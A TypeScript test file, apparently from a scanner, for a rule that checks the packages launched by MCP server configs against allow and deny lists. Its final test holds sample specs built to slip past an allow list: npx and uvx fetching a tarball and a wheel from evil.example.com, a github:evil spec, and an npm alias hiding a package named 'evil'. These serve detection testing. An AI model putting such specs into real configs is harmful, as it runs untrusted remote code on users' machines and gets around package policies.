import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assertAtString, assertFinding, assertNoFinding, assessFiles, findingsOf, HEX, KILO, LEGACY, legacyConfig, onlyFinding, POLICY, randomBody } from './helpers';

const RULE = 'policy-package';
const policy = (packages: { allow?: string[]; deny?: string[] }) => JSON.stringify({ version: 1, packages });
const s = (command: string, ...args: string[]) => ({ command, args });
const DIGEST = 'sha256:' + randomBody(HEX, 64, 3);

describe('policy-package: positives', () => {
  it('reports npm, Python and container packages outside the allow list, at the package word', async () => {
    const text = legacyConfig({
      official: s('npx', '-y', '@modelcontextprotocol/server-github@2025.4.8'),
      thirdParty: s('npx', '-y', 'random-mcp-server@1.0.0'),
      python: s('uvx', 'mcp-server-fetch==0.6.2'),
      image: s('docker', 'run', '-i', '--rm', `ghcr.io/acme/tool@${DIGEST}`),
      allowedImage: s('docker', 'run', '-i', '--rm', `ghcr.io/github/github-mcp-server@${DIGEST}`),
    });
    const pol = policy({ allow: ['@modelcontextprotocol/*', 'mcp-server-*', 'ghcr.io/github/*'] });
    const r = await assessFiles({ [LEGACY]: text, [POLICY]: pol });
    assert.deepEqual(r.policyErrors, []);
    const fs = findingsOf(r, RULE);
    assert.deepEqual(fs.map((f) => f.server).sort(), ['image', 'thirdParty']);
    const third = onlyFinding(r, RULE, 'thirdParty');
    assertFinding(third, { ruleId: RULE, category: 'policy-violation', severity: 'high', server: 'thirdParty', file: LEGACY });
    assert.deepEqual(third.jsonPath, ['mcpServers', 'thirdParty', 'args', 1]);
    assertAtString(third, text, 'random-mcp-server@1.0.0');
    // The name is judged without its version.
    assert.match(third.message, /runs the package random-mcp-server, which the policy does not allow: not in the allowed list/);
    const image = onlyFinding(r, RULE, 'image');
    assertAtString(image, text, `ghcr.io/acme/tool@${DIGEST}`);
    assert.match(image.message, /package ghcr\.io\/acme\/tool,/);
  });

  it('lets deny win over allow', async () => {
    const text = legacyConfig({ evil: s('npx', '-y', '@modelcontextprotocol/server-evil@1.0.0'), good: s('npx', '-y', '@modelcontextprotocol/server-good@1.0.0') });
    const r = await assessFiles({ [LEGACY]: text, [POLICY]: policy({ allow: ['@modelcontextprotocol/*'], deny: ['*-evil'] }) });
    const f = onlyFinding(r, RULE);
    assertFinding(f, { ruleId: RULE, category: 'policy-violation', severity: 'high', server: 'evil', file: LEGACY });
    assertAtString(f, text, '@modelcontextprotocol/server-evil@1.0.0');
    assert.match(f.message, /denied by "\*-evil"/);
  });

  it('reports a package named with `-p` inside a Kilo command array', async () => {
    const kilo = `{\n  // kilo\n  "mcp": { "k": { "type": "local", "command": ["npx", "-y", "-p", "left-pad-mcp@1.0.0", "lp"] } },\n}\n`;
    const r = await assessFiles({ [KILO]: kilo, [POLICY]: policy({ deny: ['left-pad-*'] }) });
    const f = onlyFinding(r, RULE, 'k');
    assertFinding(f, { ruleId: RULE, category: 'policy-violation', severity: 'high', server: 'k', file: KILO });
    assert.deepEqual(f.jsonPath, ['mcp', 'k', 'command', 3]);
    assertAtString(f, kilo, 'left-pad-mcp@1.0.0');
  });
});

describe('policy-package: negatives', () => {
  it('reports nothing without a packages policy, for allowed packages, or for servers that fetch no package', async () => {
    const text = legacyConfig({ npx: s('npx', '-y', '@modelcontextprotocol/server-github'), node: s('node', 'x.js'), local: s('npx', './tools/server.js') });
    assertNoFinding(await assessFiles({ [LEGACY]: text }), RULE);
    assertNoFinding(await assessFiles({ [LEGACY]: text, [POLICY]: policy({ allow: ['@MODELCONTEXTPROTOCOL/*'] }) }), RULE);
    assertNoFinding(await assessFiles({ [LEGACY]: text, [POLICY]: policy({ deny: ['other-*'] }) }), RULE);
  });
});

describe('policy-package: specs that would slip past an allow list', () => {
  it('judges npm aliases by the real package and URL/git specs by their URL', async () => {
    const text = legacyConfig({
      alias: s('npx', '-y', '@modelcontextprotocol/server-memory@npm:evil@1.0.0'),
      tgz: s('npx', '-y', 'https://evil.example.com/pkg.tgz'),
      gh: s('npx', '-y', 'github:evil/x'),
      wheel: s('uvx', '--from', 'https://evil.example.com/x-1.0-py3-none-any.whl', 'x'),
    });
    const r = await assessFiles({ [LEGACY]: text, [POLICY]: policy({ allow: ['@modelcontextprotocol/*'] }) });
    for (const name of ['alias', 'tgz', 'gh', 'wheel']) assert.equal(findingsOf(r, RULE, name).length, 1, name);
    assert.match(onlyFinding(r, RULE, 'alias').message, /runs the package evil,/);
  });
});
